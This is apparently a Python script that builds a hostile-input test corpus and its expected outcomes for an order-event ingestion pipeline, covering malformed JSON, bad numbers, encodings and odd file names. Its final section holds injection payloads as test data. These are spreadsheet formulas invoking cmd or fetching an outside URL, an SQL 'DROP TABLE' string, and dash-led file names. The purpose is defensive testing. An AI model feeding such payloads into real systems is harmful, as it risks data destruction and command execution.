"""Writes the hostile-input corpus: ``corpus/odp_events/<case file>`` and ``corpus/expected.json``.

Each case is declared once, here: the bytes of the file and, next to them, the outcome the
pipeline must produce (docs/semantics.md §1.1, §2), written by hand, never read back from a run.
Run ``python -m tests.hostile.build_corpus`` after changing a case; ``test_corpus`` checks
that the committed files are what this script writes.

Corpus files have plain ASCII names so the repository checks out on every OS; the hostile
names (quotes, glob characters, SQL, non-ASCII) are given in ``landing_name`` and applied
when a case is copied into a landing folder. Cases of one ``group`` are landed together, in
one pipeline run; their order ids are unique across the corpus so cases never interact.

Expected outcome of a case:
- ``records``, ``accepted``, ``quarantined``, ``duplicates``: its ``audit.loads`` row;
- ``quarantine``: record_no -> the reason codes of that quarantined record;
- ``accepted_orders``: the order ids of its records in ``core.order_events``;
- ``values``: ``[table, column, key column, key, str(value)]`` rows to read back verbatim
  (``{"md5": ..., "length": ...}`` instead of a very long value);
- ``ignored``: the file must not be landed at all (still being written, hidden).
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

CORPUS = Path(__file__).parent / "corpus"
SOURCE = "odp_events"
BOM = b"\xef\xbb\xbf"
TS = 1_780_300_800  # 2026-06-01 08:00:00 UTC
TS_TEXT = "2026-06-01 08:00:00+00:00"
SQL = "'); DROP TABLE core.orders; --"

# -- building blocks ---------------------------------------------------------------------------


def event(key: str, /, action: Any = "purchase", ts: Any = TS, **order: Any) -> dict[str, Any]:
    """A valid ODP order event of 10.00 for order ``key`` (override any order field, even
    ``order_id``; ``None`` removes it); its identifier is an email made from ``key``."""
    fields: dict[str, Any] = {"order_id": key, "subtotal": 10, **order}
    fields = {k: v for k, v in fields.items() if v is not None}
    data: dict[str, Any] = {"order": fields}
    if ts is not None:
        data["ts"] = ts
    return {
        "type": "order",
        "action": action,
        "identifiers": {"email": f"{key.lower()}@example.com"},
        "data": data,
    }


def line(value: Any, **replace: str) -> str:
    """Compact JSON text of ``value``; each ``"@key@"`` string is then swapped for raw text
    (for what Python's json cannot write: NaN spelled otherwise, 1e400, duplicate keys)."""
    text = json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    for key, raw in replace.items():
        text = text.replace(json.dumps(f"@{key}@"), raw)
    return text


def ndjson(lines: list[str | bytes], end: bytes = b"\n", final: bool = True) -> bytes:
    data = end.join(x if isinstance(x, bytes) else x.encode() for x in lines)
    return data + end if final else data


def nested(levels: int) -> str:
    return "[" * levels + "]" * levels


CASES: dict[str, dict[str, Any]] = {}


def case(name: str, data: bytes, group: str, **expected: Any) -> None:
    expected.setdefault("quarantine", {})
    expected.setdefault("accepted_orders", [])
    expected.setdefault("duplicates", 0)
    expected.setdefault("values", [])
    quarantined = len(expected["quarantine"])
    expected.setdefault("quarantined", quarantined)
    expected.setdefault(
        "records", quarantined + len(expected["accepted_orders"]) + expected["duplicates"]
    )
    expected.setdefault("accepted", expected["records"] - quarantined - expected["duplicates"])
    expected.setdefault("landing_name", f"{SOURCE}/{name}")
    expected["quarantine"] = {str(k): sorted(v) for k, v in expected["quarantine"].items()}
    CASES[name] = {"group": group, "data": data, **expected}


def order_value(column: str, order_id: str, value: Any, table: str = "core.orders") -> list[str]:
    return [table, column, "order_id", order_id, str(value)]


# -- structure: malformed JSON, wrong types, missing fields, arrays ----------------------------

BAD_CONTROL = line(event("ML9", first_name="@x@"), x='"a\x01b"')
case(
    "malformed_lines.ndjson",
    ndjson(
        [
            line(event("ML1")),
            line(event("ML2"))[:60],  # truncated mid-record
            "not json at all",
            "{'type': 'order', 'action': 'purchase'}",  # single quotes
            line(event("ML5")) + "}",  # trailing garbage
            line(event("ML6A")) + " " + line(event("ML6B")),  # two objects on one line
            line(event("ML7", subtotal="@n@"), n="010"),  # leading zero
            line(event("ML8", first_name="@s@"), s='"\\ud800"'),  # lone surrogate escape
            BAD_CONTROL,  # a raw control character inside a string
            "{",
            line(event("ML11")),
            "]",
            "",
            "   \t ",
            line(event("ML15")),
            line(event("ML16"))[:-1],  # closing brace missing
        ]
    ),
    "structure",
    quarantine={n: ["invalid_json"] for n in (2, 3, 4, 5, 6, 7, 8, 9, 10, 12, 16)},
    accepted_orders=["ML1", "ML11", "ML15"],
)

TAIL = line(event("TT2"))
case(
    "truncated_tail.ndjson",
    ndjson([line(event("TT1")), TAIL[: len(TAIL) // 2]], final=False),
    "structure",
    quarantine={2: ["invalid_json"]},
    accepted_orders=["TT1"],
)

case(
    "truncated_array.json",
    ("[" + line(event("TA1")) + ", " + line(event("TA2"))[:40]).encode(),
    "structure",
    quarantine={1: ["invalid_json"]},  # §2: a .json file that is not JSON is one record
)

WRONG_TYPES: list[tuple[Any, list[str]]] = [
    (event("WT1", order_id={"id": 1}), ["missing_order_id"]),
    (event("WT2", order_id=["WT2"]), ["missing_order_id"]),
    (event("WT3", order_id=1.5), ["missing_order_id"]),
    (event("WT4", order_id=True), ["missing_order_id"]),
    (event("WT5", items="P1,P2"), ["invalid_items"]),
    (event("WT6", items={"product_id": "P1"}), ["invalid_items"]),
    ({**event("WT7"), "identifiers": ["wt7@example.com"]}, ["invalid_identifiers",
                                                            "missing_identifier"]),
    ({**event("WT8"), "identifiers": "wt8@example.com"}, ["invalid_identifiers",
                                                          "missing_identifier"]),
    ({**event("WT9"), "identifiers": {"email": ["wt9@example.com"], "customer_id": "WT9"}},
     ["invalid_identifiers"]),
    (event("WT10", action=5), ["missing_action"]),
    (event("WT11", action={"name": "purchase"}), ["missing_action"]),
    ({**event("WT12"), "type": ["order"]}, ["unsupported_event_type"]),
    ({**event("WT13"), "data": "WT13"}, ["missing_order"]),
    ({**event("WT14"), "data": {"ts": TS, "order": [{"order_id": "WT14"}]}}, ["missing_order"]),
    (event("WT15", subtotal="12.50"), ["invalid_amount"]),
    (event("WT16", subtotal=True), ["invalid_amount"]),
    (event("WT17", total={"amount": 10}), ["invalid_amount"]),
    (event("WT18", currency=840), ["invalid_currency"]),
    (event("WT19", items=[{"product_id": "P1", "price": 5, "quantity": "2"}]),
     ["invalid_quantity"]),
    (event("WT20", items=[5]), ["invalid_item"]),
    (event("WT21", items=[{"product_id": {"id": "P1"}, "price": 5, "quantity": 1}]),
     ["invalid_product_id"]),
    (event("WT22", ts=True), ["invalid_ts"]),
    (event("WT23", first_name={"first": "Ann"}), ["invalid_text"]),
    (event("WT24", coupon_code=["SPRING"]), ["invalid_text"]),
    (event("WT25", email=True), ["invalid_text"]),
    (event("WT26", items=[{"sku": {"x": 1}, "price": 5, "quantity": 1}]), ["invalid_text"]),
    ([{"type": "order"}], ["not_an_object"]),
    ("order", ["not_an_object"]),
    (None, ["not_an_object"]),
    (42, ["not_an_object"]),
    # `true` as an identifier would link every customer who sends it
    ({**event("WT33"), "identifiers": {"flag": True, "customer_id": "WT33"}},
     ["invalid_identifiers"]),
    (event("WT31", order_id=990031), []),  # a whole-number order id is an order id
    (event("WT32", phone=442071234567), []),  # a phone sent as a number is its digits
]  # fmt: skip
case(
    "wrong_types.ndjson",
    ndjson([line(value) for value, _ in WRONG_TYPES]),
    "structure",
    quarantine={n: codes for n, (_, codes) in enumerate(WRONG_TYPES, start=1) if codes},
    accepted_orders=["990031", "WT32"],
    values=[order_value("phone", "WT32", "442071234567")],
)


def without(value: dict[str, Any], *path: str) -> dict[str, Any]:
    """A deep copy of ``value`` without the key at ``path``."""
    copy = json.loads(json.dumps(value))
    target = copy
    for key in path[:-1]:
        target = target[key]
    del target[path[-1]]
    return copy


MISSING: list[tuple[Any, list[str]]] = [
    (without(event("MF1"), "type"), ["unsupported_event_type"]),
    (without(event("MF2"), "action"), ["missing_action"]),
    (without(event("MF3"), "data"), ["missing_order"]),
    (without(event("MF4"), "data", "order"), ["missing_order"]),
    (without(event("MF5"), "data", "order", "order_id"), ["missing_order_id"]),
    (without(event("MF6"), "identifiers"), ["missing_identifier"]),
    ({**event("MF7"), "identifiers": {}}, ["missing_identifier"]),
    ({**event("MF8"), "identifiers": {"email": "  ", "phone": ""}}, ["missing_identifier"]),
    ({**event("MF9"), "identifiers": {"email": None}}, ["missing_identifier"]),
    # nothing a person can see: a zero-width space, a no-break space, a control character
    (
        {**event("MF19"), "identifiers": {"email": "\u200b\u00a0", "phone": "\u0007"}},
        ["missing_identifier"],
    ),
    (event("MF10", subtotal=None), ["missing_amount"]),
    (event("MF11", "refund", subtotal=None), ["missing_amount"]),
    (event("MF12", "return", subtotal=None, items=[]), ["missing_amount"]),
    (event("MF13", "cancel", subtotal=None), []),  # a cancel may carry no amount
    (event("MF14", "shipped", subtotal=None), []),  # so may a custom action
    ({}, ["missing_action", "missing_identifier", "missing_order", "unsupported_event_type"]),
    ({**event("MF16", email="mf16@example.com"), "identifiers": {}}, []),
    (event("MF17", order_id=""), ["missing_order_id"]),
    (event("MF18", order_id="   "), ["missing_order_id"]),
]
case(
    "missing_fields.ndjson",
    ndjson([line(value) for value, _ in MISSING]),
    "structure",
    quarantine={n: codes for n, (_, codes) in enumerate(MISSING, start=1) if codes},
    accepted_orders=["MF13", "MF14", "MF16"],
)

DUPLICATE_KEY = ["duplicate_key"]
case(
    "duplicate_keys.ndjson",
    ndjson(
        [
            line(event("DK1", x="@x@"), x='10,"subtotal":20'),
            line(event("DK2", gift="@x@"), x='"yes","gift":"no"'),
            line(event("DK3")).replace('"type":"order"', '"type":"order","type":"customer"', 1),
            line({**event("DK4"), "identifiers": "@x@"}, x='{"email":"a@x.io","email":"b@x.io"}'),
            line(
                event("DK5", items=[{"product_id": "P1", "price": "@x@", "quantity": 1}]),
                x='5,"price":7',
            ),
            line(event("DK6")),
            # keys repeated deep inside a custom field are kept as sent: it is opaque JSON
            line(event("DK7", meta="@x@"), x='{"a":1,"a":2}'),
        ]
    ),  # fmt: skip
    "structure",
    quarantine={
        1: DUPLICATE_KEY,
        2: DUPLICATE_KEY,
        3: DUPLICATE_KEY,
        4: DUPLICATE_KEY,
        5: DUPLICATE_KEY,
    },  # fmt: skip
    accepted_orders=["DK6", "DK7"],
)

case(
    "array_one_bad.json",
    (
        "["
        + ",".join(
            [
                line(event("AB1")),
                line(event("AB2")),
                line(event("AB3", subtotal="10")),
                "42",
                "null",
                line(event("AB6")),
            ]
        )
        + "]"
    ).encode(),
    "structure",
    quarantine={3: ["invalid_amount"], 4: ["not_an_object"], 5: ["not_an_object"]},
    accepted_orders=["AB1", "AB2", "AB6"],
)

case(
    "single_object.json",
    json.dumps(event("SO1"), indent=2).encode(),
    "structure",
    accepted_orders=["SO1"],
)
case("scalar_document.json", b"42\n", "structure", quarantine={1: ["not_an_object"]})
case("empty_array.json", b"[ ]\n", "structure", records=0)
case(
    "no_final_newline.jsonl",
    ndjson([line(event(f"NF{n}")) for n in (1, 2, 3)], final=False),
    "structure",
    accepted_orders=["NF1", "NF2", "NF3"],
)

DU1 = event("DU1")
case(
    "duplicates.ndjson",
    ndjson(
        [
            line(DU1),
            line(DU1),  # an upstream retry
            json.dumps(dict(reversed(list(DU1.items()))), indent=None),  # key order, spaces
        ]
    ),
    "structure",
    accepted_orders=["DU1"],
    duplicates=2,
)

# An event uses 3 levels (record, data, order): a custom field nested k deep makes 3 + k.
case(
    "deep_nesting.ndjson",
    ndjson(
        [
            line(event("DN1", deep="@x@"), x=nested(10_000)),
            line(event("DN2", deep="@x@"), x=nested(61)),  # 64 levels: the limit
            line(event("DN3", deep="@x@"), x=nested(62)),  # 65 levels
            line(event("DN4", name="[" * 10_000)),  # brackets inside a string do not nest
            line(event("DN5", deep="@x@"), x='{"a":' * 10_000 + "1" + "}" * 10_000),
        ]
    ),
    "structure",
    quarantine={1: ["too_deep"], 3: ["too_deep"], 5: ["too_deep"]},
    accepted_orders=["DN2", "DN4"],
    values=[order_value("name", "DN4", "[" * 10_000)],
)
case(
    "deep_nesting_array.json",
    (
        "[" + line(event("DA1", deep="@x@"), x=nested(10_000)) + "," + line(event("DA2")) + "]"
    ).encode(),
    "structure",
    quarantine={1: ["too_deep"]},
    accepted_orders=["DA2"],
)

# -- numbers, timestamps, types and actions ----------------------------------------------------

NUMBERS: list[tuple[str, list[str]]] = [
    (line(event("BN1", subtotal="@x@"), x="NaN"), ["invalid_amount"]),
    (line(event("BN2", total="@x@"), x="Infinity"), ["invalid_amount"]),
    (line(event("BN3", tax="@x@"), x="-Infinity"), ["invalid_amount"]),
    (line(event("BN4", subtotal="@x@"), x="1e400"), ["invalid_amount"]),
    (line(event("BN5", subtotal="@x@"), x="-1e400"), ["invalid_amount"]),
    (line(event("BN6", subtotal="@x@"), x="1234567890123456789012345678901234567890"),
     ["invalid_amount"]),
    (line(event("BN7", subtotal=12.34567)), ["invalid_amount"]),
    (line(event("BN8", items=[{"product_id": "P1", "price": 1.23456, "quantity": 1}])),
     ["invalid_amount"]),
    (line(event("BN9", subtotal="@x@"), x="123456789012.3456"), ["invalid_amount"]),
    (line(event("BN10", subtotal="@x@"), x="12.00000000001"), ["invalid_amount"]),
    (line(event("BN11", discount="@x@"), x="0.00000000001"), ["invalid_amount"]),
    (line(event("BN12", items=[{"product_id": "P1", "price": 5, "quantity": -1}])),
     ["invalid_quantity"]),
    (line(event("BN13", items=[{"product_id": "P1", "price": 5, "quantity": "@x@"}]), x="NaN"),
     ["invalid_quantity"]),
    (line(event("BN14", items=[{"product_id": "P1", "price": 5, "quantity": "@x@"}]),
          x="1e400"), ["invalid_quantity"]),
    (line(event("BN15", items=[{"product_id": "P1", "price": 5, "quantity": 1.23456}])),
     ["invalid_quantity"]),
    (line(event("BN16", subtotal="@x@"), x="12345678901.2345"), []),  # 15 digits: exact
    (line(event("BN17", subtotal="@x@"), x="1E2"), []),
    (line(event("BN18", "refund", subtotal=-30)), []),  # −30 and 30 mean the same (§3)
    # 14 integer digits fit a record, but sums of such records overflow the models (see
    # test_sums_of_valid_amounts_do_not_fail_the_run): a smaller amount keeps the group green
    (line(event("BN19", subtotal="@x@"), x="9999999999.9999"), []),
    (line(event("BN20", subtotal="@x@"), x="100000000000000"), ["invalid_amount"]),
    (line(event("BN21", subtotal="Infinity")), ["invalid_amount"]),
    (line(event("BN22", items=[{"product_id": "P1", "price": 2.5, "quantity": 0}])), []),
]  # fmt: skip
case(
    "bad_numbers.ndjson",
    ndjson([text for text, _ in NUMBERS]),
    "numbers",
    quarantine={n: codes for n, (_, codes) in enumerate(NUMBERS, start=1) if codes},
    accepted_orders=["BN16", "BN17", "BN18", "BN19", "BN22"],
    values=[
        ["staging.odp_event_records", "subtotal", "order_id", "BN16", "12345678901.2345"],
        ["staging.odp_event_records", "subtotal", "order_id", "BN17", "100.0000"],
        ["staging.odp_event_records", "subtotal", "order_id", "BN19", "9999999999.9999"],
        ["core.order_events", "subtotal_delta", "order_id", "BN18", "-30.0000"],
        ["core.order_items", "quantity", "order_id", "BN22", "0.0000"],
    ],
)

TIMES_OK: list[tuple[str, dict[str, Any], str]] = [
    ("TSA1", event("TSA1", ts=TS), TS_TEXT),
    ("TSA2", event("TSA2", ts=TS + 0.25), "2026-06-01 08:00:00.250000+00:00"),
    ("TSA3", event("TSA3", ts="2026-06-01T08:00:00Z"), TS_TEXT),
    ("TSA4", event("TSA4", ts="2026-06-01T10:00:00+02:00"), TS_TEXT),
    ("TSA5", event("TSA5", ts="2026-06-01T10:00:00+0200"), TS_TEXT),
    ("TSA6", {**event("TSA6", ts=None), "ts": TS}, TS_TEXT),  # top-level ts
    ("TSA7", event("TSA7", ts=None), "inferred"),  # no ts: the file's ingestion time
    ("TSA8", event("TSA8", ts="2026-06-01t08:00:00.5z"), "2026-06-01 08:00:00.500000+00:00"),
    ("TSA9", event("TSA9", ts=str(TS)), TS_TEXT),  # epoch seconds sent as a string
    ("TSA10", event("TSA10", ts="2026-06-01T03:00:00-05:00"), TS_TEXT),
    ("TSA11", {**event("TSA11", ts=None), "ts": TS}, TS_TEXT),
    ("TSA12", {**event("TSA12"), "ts": TS + 86_400}, TS_TEXT),  # data.ts wins over top level
]
TIMES_OK[10][1]["data"]["ts"] = None  # data.ts null: the top-level ts is used
case(
    "timestamps_accepted.ndjson",
    ndjson([line(value) for _, value, _ in TIMES_OK]),
    "numbers",
    accepted_orders=[order_id for order_id, _, _ in TIMES_OK],
    values=[
        ["core.order_events", "ts", "order_id", order_id, ts]
        for order_id, _, ts in TIMES_OK
        if ts != "inferred"
    ]
    + [["core.order_events", "ts_inferred", "order_id", "TSA7", "True"]],
)

TIMES_BAD: list[Any] = [
    "2026-06-01T08:00:00",  # no offset: local time of an unknown zone
    "yesterday",
    -1,
    "2200-01-01T00:00:00Z",
    7_258_118_400,  # 2200 in epoch seconds
    TS * 1000,  # epoch milliseconds
    "1969-12-31T23:59:59Z",
    "2026-02-30T00:00:00Z",
    "",
    {"epoch": TS},
    "@nan@",
    "06/01/2026 08:00",
    "2026-06-01T08:00:00+25:00",  # no such offset
    "2026-06-01T08:00:00+14:60",
    "0001-01-01T00:00:00Z",
]
case(
    "timestamps_rejected.ndjson",
    ndjson([line(event(f"TSR{n}", ts=ts), nan="NaN") for n, ts in enumerate(TIMES_BAD, start=1)]),
    "numbers",
    quarantine={n: ["invalid_ts"] for n in range(1, len(TIMES_BAD) + 1)},
)

UNKNOWN_TYPES: list[Any] = ["customer", "product", "pageview", "", None, 5, "orders"]
case(
    "unknown_types.ndjson",
    ndjson(
        [line({**event(f"UT{n}"), "type": t}) for n, t in enumerate(UNKNOWN_TYPES, start=1)]
        + [line(event("UT8"))]
    ),
    "numbers",
    quarantine={n: ["unsupported_event_type"] for n in range(1, len(UNKNOWN_TYPES) + 1)},
    accepted_orders=["UT8"],
)

CUSTOM_ACTIONS = [
    ("CA1", "shipped", "shipped"),  # creates the order (§3)
    ("CA2", "purchase", "purchase"),
    ("CA2", "Delivered", "delivered"),
    ("CA2", " gift-wrapped ", "gift-wrapped"),
    ("CA3", "配送済み", "配送済み"),
    ("CA4", "x.custom_action/v2", "x.custom_action/v2"),
]
case(
    "custom_actions.ndjson",
    ndjson(
        [
            line(event(order_id, action, ts=TS + n, subtotal=None if n > 2 else 10))
            for n, (order_id, action, _) in enumerate(CUSTOM_ACTIONS, start=1)
        ]
    ),
    "numbers",
    accepted_orders=["CA1", "CA2", "CA2", "CA2", "CA3", "CA4"],
    values=[
        ["core.order_events", "action", "record_no", n, action]
        for n, (_, _, action) in enumerate(CUSTOM_ACTIONS, start=1)
    ]
    + [order_value("status", "CA2", "purchase"), order_value("subtotal", "CA1", "10.0000")],
)

# -- encodings, line endings, blank files, very long values ------------------------------------

case(
    "bom.ndjson",
    BOM + ndjson([line(event("BO1")), line(event("BO2"))]),
    "encoding",
    accepted_orders=["BO1", "BO2"],
)
case(
    "bom_bad_first_line.ndjson",
    BOM + ndjson(["not json", line(event("BB2"))]),
    "encoding",
    quarantine={1: ["invalid_json"]},
    accepted_orders=["BB2"],
)
case("bom.json", BOM + json.dumps(event("BJ1")).encode(), "encoding", accepted_orders=["BJ1"])
case(
    "bom_array.json",
    BOM + ("[" + line(event("BA1")) + ",\n" + line(event("BA2")) + "]\n").encode(),
    "encoding",
    accepted_orders=["BA1", "BA2"],
)
case("bom_only.ndjson", BOM + b"\n", "encoding", records=0)
case(
    "crlf.ndjson",
    ndjson([line(event("CR1")), "oops", "", line(event("CR4"))], end=b"\r\n"),
    "encoding",
    quarantine={2: ["invalid_json"]},
    accepted_orders=["CR1", "CR4"],
)
case(
    "crlf.json",
    json.dumps([event("CJ1"), event("CJ2")], indent=2).replace("\n", "\r\n").encode(),
    "encoding",
    accepted_orders=["CJ1", "CJ2"],
)


def with_bytes(order_id: str, raw: bytes) -> bytes:
    """An event line whose first_name holds ``raw`` bytes as they are (maybe not UTF-8)."""
    return line(event(order_id, first_name="@x@")).encode().replace(b'"@x@"', b'"' + raw + b'"')


INVALID_UTF8 = ["invalid_utf8"]
case(
    "invalid_utf8.ndjson",
    ndjson(
        [
            line(event("IU1")),
            with_bytes("IU2", b"Zo\xeb"),  # Latin-1 ë
            line(event("IU3")),
            with_bytes("IU4", b"\xe6\x97"),  # a truncated 3-byte character
            with_bytes("IU5", b"\xc0\xaf"),  # an overlong encoding of "/"
            line(event("IU6")).encode() + b"\r",  # CRLF on one line
            with_bytes("IU7", b"\xed\xa0\x80"),  # an encoded UTF-16 surrogate
            with_bytes("IU8", "Zoë 注文".encode()),  # valid UTF-8 in a file that is not
        ]
    ),
    "encoding",
    quarantine={2: INVALID_UTF8, 4: INVALID_UTF8, 5: INVALID_UTF8, 7: INVALID_UTF8},
    accepted_orders=["IU1", "IU3", "IU6", "IU8"],
    values=[order_value("first_name", "IU8", "Zoë 注文")],
)
case(
    "invalid_utf8.json",
    b"[" + line(event("IJ1")).encode() + b"," + with_bytes("IJ2", b"\xff") + b"]",
    "encoding",
    quarantine={1: INVALID_UTF8},  # not valid JSON: the whole document is the record (§2)
)
case(
    "latin1.ndjson",
    ndjson([line(event("LA1", first_name="Zoë")).encode("latin-1"), line(event("LA2"))]),
    "encoding",
    quarantine={1: INVALID_UTF8},
    accepted_orders=["LA2"],
)

LONG_NAME = ("Zoë 注文 " * 200_000)[:999_999] + "!"  # one million characters, 1.6 MB
case(
    "long_name.ndjson",
    ndjson([line(event("LN1", first_name=LONG_NAME))]),
    "encoding",
    accepted_orders=["LN1"],
    values=[
        [
            "core.orders",
            "first_name",
            "order_id",
            "LN1",
            {"md5": hashlib.md5(LONG_NAME.encode()).hexdigest(), "length": len(LONG_NAME)},
        ]
    ],
)

CONTROLS = {
    "first_name": "A\u0000B",  # an escaped NUL is a character like any other
    "last_name": "\u001b[31mred\u001b[0m",  # a terminal escape sequence
    "name": "\u202eevil\u202c\u200b",  # right-to-left override, zero-width space
    "coupon_code": "A\u2028B\u2029C",  # JavaScript line separators
}
case(
    "nul_and_controls.ndjson",
    ndjson(
        [
            line(event("NC1", **CONTROLS)),
            line(event("NC2", first_name="@x@"), x='"a\x00b"'),  # a raw NUL byte: not JSON
        ]
    ),
    "encoding",
    quarantine={2: ["invalid_json"]},
    accepted_orders=["NC1"],
    values=[order_value(column, "NC1", value) for column, value in CONTROLS.items()],
)
case("empty.ndjson", b"", "encoding", records=0)
case("whitespace_only.ndjson", b"  \n\t\n\r\n \x0c \n", "encoding", records=0)
case(
    "whitespace_only.json",
    b" \n\t \n",
    "encoding",
    quarantine={1: ["invalid_json"]},  # §2: a .json file that is not JSON is one record
)

# -- spreadsheet formulas, SQL-looking values, hostile file names -----------------------------

FORMULAS = {
    "first_name": '=HYPERLINK("http://x","y")',
    "last_name": "+cmd|' /C calc'!A0",
    "coupon_code": "@SUM(1)",
    "name": "-2+3+cmd|' /C calc'!A0",
    "bill_address": "=1+1",
    "ship_address": '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
}
case(
    "formulas.ndjson",
    ndjson(
        [
            line(
                event(
                    "FO1",
                    items=[{"product_id": "=1+1", "sku": "@SKU", "price": 10, "quantity": 1}],
                    **FORMULAS,
                )
            )
        ]
    ),
    "names",
    accepted_orders=["FO1"],
    values=[order_value(column, "FO1", value) for column, value in FORMULAS.items()]
    + [
        order_value("product_id", "FO1", "=1+1", table="core.order_items"),
        order_value("sku", "FO1", "@SKU", table="core.order_items"),
    ],
)

SQL_FIELDS = ["first_name", "last_name", "name", "coupon_code", "bill_address", "ship_address"]
SQL_EVENT = {
    "type": "order",
    "action": SQL,
    "identifiers": {"email": "sq1@example.com", SQL: SQL},
    "data": {
        "ts": TS,
        "order": {
            "order_id": "SQ1" + SQL,
            "subtotal": 10,
            **{f: f"{f}{SQL}" for f in SQL_FIELDS},
            SQL: SQL,
            "items": [{"product_id": SQL, "sku": SQL, "price": 10, "quantity": 1}],
        },
    },
}
case(
    "sql_values.ndjson",
    ndjson([line(SQL_EVENT), line(event("SQ2", currency=SQL))]),
    "names",
    landing_name=f"{SOURCE}/x{SQL}.ndjson",
    quarantine={2: ["invalid_currency"]},
    accepted_orders=["SQ1" + SQL],
    values=[order_value(f, "SQ1" + SQL, f"{f}{SQL}") for f in SQL_FIELDS]
    + [
        order_value("status", "SQ1" + SQL, SQL.lower()),  # actions are lower-cased (§2)
        order_value("product_id", "SQ1" + SQL, SQL, table="core.order_items"),
        order_value("sku", "SQ1" + SQL, SQL, table="core.order_items"),
        order_value("file", "SQ1" + SQL, f"{SOURCE}/x{SQL}.ndjson", table="core.order_events"),
    ],
)

NAMES = {
    "name_spaces.ndjson": "export (1) final copy.ndjson",
    "name_quotes.ndjson": 'it\'s "quoted" `back`.ndjson',
    "name_dots.ndjson": "a..b.ndjson",
    "name_unicode.ndjson": "zoë 注文.ndjson",
    "name_glob_brackets.ndjson": "orders[1].ndjson",  # must not read orders1.ndjson
    "name_glob_decoy.ndjson": "orders1.ndjson",
    "name_glob_star.ndjson": "orders*.ndjson",  # must not read every orders… file
    "name_glob_question.ndjson": "orders?.ndjson",
    "name_nested.ndjson": "2026/06/..data../[x]/events.ndjson",
    "name_backslash.ndjson": "back\\slash.ndjson",
    "name_dash.ndjson": "-rf --help.ndjson",
    "name_upper_suffix.ndjson": "EVENTS.NDJSON",
}
for n, (corpus_name, landing_name) in enumerate(NAMES.items(), start=1):
    case(
        corpus_name,
        ndjson([line(event(f"FN{n}"))]),
        "names",
        landing_name=f"{SOURCE}/{landing_name}",
        accepted_orders=[f"FN{n}"],
    )
case(
    "name_hidden.ndjson",
    ndjson([line(event("FH1"))]),
    "names",
    landing_name=f"{SOURCE}/.hidden.ndjson",
    ignored=True,
)
case(
    "name_in_progress.ndjson",
    ndjson([line(event("FP1"))]),
    "names",
    landing_name=f"{SOURCE}/upload.ndjson.part",
    ignored=True,
)
# Zero bytes, like empty.ndjson: in another group, or it would be "the same bytes again".
case("empty.json", b"", "names", quarantine={1: ["invalid_json"]})


def expected() -> dict[str, dict[str, Any]]:
    """The expected outcomes, as written to expected.json (no file bytes)."""
    return {name: {k: v for k, v in c.items() if k != "data"} for name, c in CASES.items()}


def write(folder: Path = CORPUS) -> None:
    """(Re)write the corpus files and expected.json under ``folder``."""
    target = folder / SOURCE
    target.mkdir(parents=True, exist_ok=True)
    for old in target.iterdir():
        old.unlink()
    for name, c in CASES.items():
        (target / name).write_bytes(c["data"])
    cases = [
        f"{json.dumps(name)}: {json.dumps(outcome, ensure_ascii=True, sort_keys=True)}"
        for name, outcome in sorted(expected().items())
    ]
    text = "{\n" + ",\n".join(cases) + "\n}\n"  # one case per line, for review and diffs
    (folder / "expected.json").write_text(text, encoding="utf-8")


def _check_unique_orders() -> None:
    """Order ids must not repeat across cases: cases landed together would interact."""
    owner: dict[str, str] = {}
    for name, c in CASES.items():
        for order_id in set(c["accepted_orders"]):
            assert owner.setdefault(order_id, name) == name, f"{order_id} in {name}, {owner}"


_check_unique_orders()

if __name__ == "__main__":
    write()
    print(f"wrote {len(CASES)} cases to {CORPUS}")
